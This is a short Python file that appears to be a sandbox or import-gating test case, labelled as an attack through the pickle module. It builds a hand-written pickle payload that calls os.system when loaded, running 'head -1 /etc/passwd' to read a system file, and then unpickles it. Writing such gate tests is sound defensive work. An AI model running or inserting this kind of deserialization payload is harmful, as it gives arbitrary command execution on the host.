# attack: a pickle that calls os.system when loaded
# covers: pickle
# gate: banned_import pickle
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
import pickle

payload = b"cos\nsystem\n(S'head -1 /etc/passwd 2>&1'\ntR."
print("system() returned", pickle.loads(payload))
